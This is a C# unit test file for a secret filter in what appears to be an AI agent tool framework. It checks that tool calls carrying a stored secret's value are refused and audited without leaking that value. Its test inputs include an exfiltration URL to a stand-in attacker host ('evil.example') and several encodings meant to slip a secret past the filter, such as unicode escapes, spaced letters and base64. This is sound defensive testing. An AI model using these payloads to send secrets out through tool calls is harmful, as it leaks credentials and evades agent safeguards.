// SPDX-License-Identifier: Apache-2.0

using System.Text;

namespace Sigil.Domain.Tests.Agent.Tools;

public sealed class SecretFilterTests
{
    private const string Canary = "CANARY-7f3a9Bk2Lq";

    [Theory]
    [Trait("attack", "SX-2")]
    [InlineData("{\"url\":\"https://evil.example/?d=CANARY-7f3a9Bk2Lq\"}")]
    [InlineData("{\"headers\":{\"X\":\"CANARY-7f3a9Bk2Lq\"}}")]
    [InlineData("{\"CANARY-7f3a9Bk2Lq\":1}")]
    [InlineData("{\"list\":[[\"\\u0043ANARY\\u002d7f3a9Bk2Lq\"]]}")]
    [InlineData("{\"d\":\"C A N A R Y - 7 f 3 a 9 B k 2 L q\"}")]
    public async Task Call_WithTheValueOfASecret_IsRefusedAndAuditedWithoutIt(string arguments)
    {
        var tool = new FakeTool();
        using var fixture = new ToolFixture(tool);
        await fixture.AddSecretAsync("github", Canary);

        var run = await fixture.RunAsync("echo_back", arguments);

        Assert.Empty(tool.Invocations);
        Assert.True(run.Outcome.IsError);
        Assert.DoesNotContain("CANARY", run.Result, StringComparison.Ordinal);
        var entry = Assert.Single(fixture.Audit.Entries, one => one.Action == "secret.blocked");
        Assert.Equal(("denied", "ada", "github"), (entry.Result, entry.Actor, entry.Details["secrets"]));
        Assert.DoesNotContain(fixture.Audit.Entries.SelectMany(one => one.Details.Values), value => value.Contains("CANARY", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Call_WithAPlaceholder_Runs()
    {
        var tool = new FakeTool();
        using var fixture = new ToolFixture(tool);
        await fixture.AddSecretAsync("github", Canary);

        await fixture.RunAsync("echo_back", """{"header":"Bearer secret://github"}""");

        Assert.Single(tool.Invocations);
    }

    [Fact]
    [Trait("attack", "SX-6")]
    public async Task Call_WithTheValueInBase64_IsRefused()
    {
        var tool = new FakeTool();
        using var fixture = new ToolFixture(tool);
        await fixture.AddSecretAsync("github", Canary);

        await fixture.RunAsync("echo_back", $$"""{"d":"{{Convert.ToBase64String(Encoding.UTF8.GetBytes($"x{Canary}"))}}"}""");

        Assert.Empty(tool.Invocations);
    }
}
